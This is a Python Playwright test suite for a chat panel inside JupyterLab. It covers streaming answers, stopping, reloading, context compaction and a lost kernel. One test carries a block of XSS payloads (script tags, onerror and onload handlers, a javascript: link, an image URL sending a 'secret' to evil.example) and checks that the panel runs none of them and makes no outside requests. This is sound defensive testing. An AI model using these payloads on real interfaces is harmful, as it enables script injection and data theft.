"""The chat panel in a real JupyterLab: typing, streaming, stopping, coming back."""

import re
from collections.abc import Callable
from pathlib import Path

from labkit import Notebook
from panel_page import OpenPanelPage, PanelServer
from panels import BUSY, OWN, ask, let_cell_end, panel_of, say
from playwright.sync_api import Locator, Page, expect

OpenNotebook = Callable[..., Notebook]
Screenshot = Callable[[str], Path]

SETUP = """
from nbchat.agent.agent import Agent
from nbchat.compaction.engine import CompactionEngine
from nbchat.errors import AuthenticationFailed
from nbchat.testing import ScriptedProvider, calls, fails, says
from nbchat.jupyter.panel.chat_ui import ChatUI

def look_up(ticket: int) -> str:
    "Read a ticket."
    return f"Ticket {ticket}: the printer is offline."
"""

ANSWER = """\
Here is **what I found** in `ticket 42`:

| field | value |
|---|--:|
| opened | 3 |

```python
def total(items):
    return sum(items)  # all of them
```

Is that [enough](https://example.org)?"""

HOSTILE = """\
<img src=x onerror="window.nbchatRan=1"><script>window.nbchatRan=1</script>
<svg onload="window.nbchatRan=1"></svg>
![leak](https://evil.example/?q=secret) [x](javascript:window.nbchatRan=1)
"></pre></details><img src=https://evil.example/y onerror="window.nbchatRan=1">"""

STORY = "<summary>The printer of Ann is offline since Monday.</summary>"


def chat_notebook(
    open_notebook: OpenNotebook | OpenPanelPage, script: str, options: str = ""
) -> Notebook:
    """A notebook whose first cell makes a panel on a scripted model."""
    return open_notebook(
        f"{SETUP}\nui = ChatUI(Agent(ScriptedProvider({script}), {options}))\nui",
        "ui",
        BUSY,
    )


def stop_button(panel: Locator) -> Locator:
    """The button that ends an answer."""
    return panel.get_by_role("button", name="Stop")


def test_an_answer_streams_in_and_becomes_markdown(
    open_panel_page: OpenPanelPage, screenshot: Screenshot
) -> None:
    panel = panel_of(
        chat_notebook(open_panel_page, f"says({ANSWER!r}, delay_seconds=0.1)")
    )
    say(panel, "What is in ticket 42?")
    expect(panel.locator(".nbc-user")).to_have_text("What is in ticket 42?")
    expect(stop_button(panel)).to_be_visible()
    expect(panel.locator(".nbc-live strong")).to_have_text("what I found")
    answer = panel.locator(".nbc-log .nbc-assistant")
    expect(answer.locator("td").first).to_have_text("opened")
    expect(answer.locator(".nbc-code .k").first).to_have_text("def")
    expect(answer.locator("a")).to_have_attribute("rel", "noopener noreferrer")
    expect(stop_button(panel)).to_be_hidden()
    screenshot("answer")


def test_shift_enter_begins_a_line(open_panel_page: OpenPanelPage) -> None:
    panel = panel_of(chat_notebook(open_panel_page, "says('one')"))
    box = panel.get_by_role("textbox")
    box.press_sequentially("first")
    box.press("Shift+Enter")
    box.press_sequentially("a b dd")
    expect(box).to_have_value("first\na b dd")


def test_stop_keeps_the_partial_answer_even_while_a_cell_runs(
    open_shared_notebook: OpenNotebook,
) -> None:
    notebook = chat_notebook(
        open_shared_notebook,
        "says('word ' * 500, delay_seconds=0.05), says('Still here.')",
    )
    panel = panel_of(notebook)
    say(panel, "Tell me a long story.")
    expect(panel.locator(".nbc-live")).to_contain_text("word word")
    notebook.start(2)
    stop_button(panel).click()
    answer = panel.locator(".nbc-log .nbc-assistant")
    expect(answer).to_contain_text("cut off here")
    expect(answer).to_contain_text("word word")
    let_cell_end(notebook)
    say(panel, "And now?")
    expect(answer.last).to_have_text("Still here.")


def test_a_returned_draft_is_put_before_the_text_being_typed(
    open_panel_page: OpenPanelPage,
) -> None:
    script = "says('word ' * 500, delay_seconds=0.05), says('Two.'), says('Three.')"
    notebook = chat_notebook(open_panel_page, script)
    panel = panel_of(notebook)
    other = panel_of(notebook, 1).get_by_role("textbox")
    box = panel.get_by_role("textbox")
    say(panel, "Tell me a long story.")
    expect(panel.locator(".nbc-live")).to_contain_text("word word")
    say(panel, "And another one.")
    expect(panel.locator(".nbc-queued")).to_have_count(1)
    box.fill("Or rather")
    stop_button(panel).click()
    expect(box).to_have_value("And another one.\n\nOr rather")
    expect(other).to_have_value("And another one.")
    box.fill("And another one.")
    box.press("Enter")
    expect(panel.locator(".nbc-user")).to_have_count(2)
    expect(other).to_have_value("")


def test_a_second_view_and_a_reloaded_page_show_the_transcript(
    open_shared_notebook: OpenNotebook,
) -> None:
    script = "says('First answer.'), says('Second ' * 40, delay_seconds=0.1)"
    notebook = chat_notebook(open_shared_notebook, script)
    panel = panel_of(notebook)
    say(panel, "One?")
    expect(panel.locator(".nbc-log .nbc-assistant")).to_have_text("First answer.")
    say(panel, "Two?")
    expect(panel.locator(".nbc-live")).to_contain_text("Second Second")
    second = panel_of(notebook, 1)
    expect(second.locator(".nbc-user")).to_have_text(["One?", "Two?"])
    expect(second.locator(".nbc-live")).to_contain_text("Second Second")
    notebook.save()
    notebook.load_page()
    notebook.open()
    again = notebook.outputs(0).locator(".nbc")
    expect(again.locator(".nbc-user")).to_have_text(["One?", "Two?"])
    expect(again.locator(".nbc-log .nbc-assistant").last).to_contain_text("Second")
    expect(stop_button(again)).to_be_hidden()


def test_a_notebook_that_is_closed_and_opened_again_continues_its_chat(
    open_shared_notebook: OpenNotebook,
) -> None:
    script = "says('First answer.'), says('Second answer.'), says('Third answer.')"
    notebook = chat_notebook(open_shared_notebook, script)
    ask(panel_of(notebook), "One?")
    notebook.save()
    for question in ("Two?", "Three?"):
        notebook.close_tab()
        notebook.open()
        again = notebook.outputs(0).locator(".nbc")
        expect(again.locator(".nbc-model")).to_have_text("scripted:model")
        ask(again, question)
    answers = again.locator(".nbc-log .nbc-assistant")
    expect(answers).to_have_text([f"{n} answer." for n in ("First", "Second", "Third")])


def test_a_compaction_shows_its_banner_and_lowers_the_meter(
    open_panel_page: OpenPanelPage, screenshot: Screenshot
) -> None:
    script = f"calls('look_up', ticket=42), says('Offline. ' * 400, tokens=1_900), says({STORY!r})"
    engine = "CompactionEngine(context_token_threshold=2_000)"
    panel = panel_of(
        chat_notebook(open_panel_page, script, f"tools=[look_up], engine={engine}")
    )
    say(panel, "Tell me about my printer. " * 60)
    card = panel.locator(".nbc-tool")
    expect(card).to_have_attribute("data-state", "done")
    card.locator("summary").click()
    expect(card).to_contain_text("the printer is offline")
    banner = panel.locator(".nbc-banner")
    expect(banner).to_contain_text("Compaction occurred")
    expect(banner).to_have_attribute("title", re.compile("4 messages compacted"))
    banner.locator("summary").click()
    expect(banner).to_contain_text("The printer of Ann is offline since Monday.")
    expect(panel.locator(".nbc-meter")).to_have_attribute(
        "title", re.compile("0 of 2,000 input tokens since the last compaction")
    )
    screenshot("banner")


def test_a_person_takes_a_compaction_back_rewrites_it_and_pins_a_rule(
    open_panel_page: OpenPanelPage, screenshot: Screenshot
) -> None:
    script = f"calls('look_up', ticket=42), says('It is offline.'), says({STORY!r})"
    panel = panel_of(chat_notebook(open_panel_page, script, "tools=[look_up]"))
    say(panel, "Tell me about the printer of ticket 42, please. " * 20)
    log = panel.locator(".nbc-log")
    expect(log).to_contain_text("It is offline.")
    say(panel, "/compact")
    banner = panel.locator(".nbc-banner").first
    expect(banner).to_contain_text("Compaction occurred")
    say(panel, "/undo")
    expect(banner).to_contain_text("Compaction undone")
    say(panel, "/redo")
    expect(banner).to_contain_text("Compaction occurred")
    say(panel, "/edit The printer of Ann needs toner.")
    banner.locator("summary").click()
    expect(banner).to_contain_text("The printer of Ann needs toner.")
    say(panel, "/pin Never promise a date.")
    expect(log).to_contain_text("1 rule pinned")
    say(panel, "/recall printer is offline")
    expect(log.locator(".nbc-note").last).to_contain_text("Ticket 42")
    banner.scroll_into_view_if_needed()
    screenshot("changed")


def test_a_transcript_in_a_cell_is_aligned_left_beside_a_panel_too(
    open_shared_notebook: OpenNotebook, screenshot: Screenshot
) -> None:
    notebook = open_shared_notebook(OWN, "%chat transcript")
    panel = notebook.run(0).locator(".nbc")
    ask(panel, "What is it?")
    said = notebook.run(1).locator(".nbc-said")
    expect(said).to_have_count(2)
    screenshot("transcript")
    texts = said.locator(".nbc-text, .nbc-md")
    places = [texts.nth(n).bounding_box() for n in range(2)]
    question, answer = (round(box["x"]) for box in places if box)
    assert question == answer


def test_when_the_kernel_is_gone_the_transcript_stays_readable(
    open_panel_page: OpenPanelPage, screenshot: Screenshot
) -> None:
    notebook = chat_notebook(open_panel_page, "says('The answer.')")
    panel = panel_of(notebook)
    say(panel, "A question?")
    expect(panel.locator(".nbc-log .nbc-assistant")).to_have_text("The answer.")
    notebook.end_kernel()
    expect(panel.get_by_role("alert")).to_contain_text("The kernel ")
    expect(panel.locator(".nbc-log .nbc-assistant")).to_have_text("The answer.")
    expect(panel.get_by_role("textbox")).to_be_disabled()
    screenshot("gone")


def test_hostile_text_runs_nothing_and_sends_nothing(
    open_panel_page: OpenPanelPage, page: Page, panel_server: PanelServer
) -> None:
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    script = (
        f"calls('look_up', ticket=42, **{{{HOSTILE!r}: {HOSTILE!r}}}), "
        f"calls({HOSTILE!r}, a=1), says({HOSTILE!r} * 2, delay_seconds=0.02), "
        f"fails(AuthenticationFailed({HOSTILE!r}))"
    )
    panel = panel_of(chat_notebook(open_panel_page, script, "tools=[look_up]"))
    say(panel, HOSTILE)
    expect(panel.locator(".nbc-log .nbc-assistant")).to_contain_text("evil.example")
    for card in panel.locator(".nbc-tool summary").all():
        card.click()
    say(panel, HOSTILE)
    expect(panel.locator(".nbc-error")).to_contain_text("onerror")
    assert page.evaluate("() => window.nbchatRan") is None
    assert panel.locator("img, script, svg, iframe").count() == 0
    outside = [
        url
        for url in requests
        if not url.startswith((panel_server.url, "blob:", "data:"))
    ]
    assert outside == []
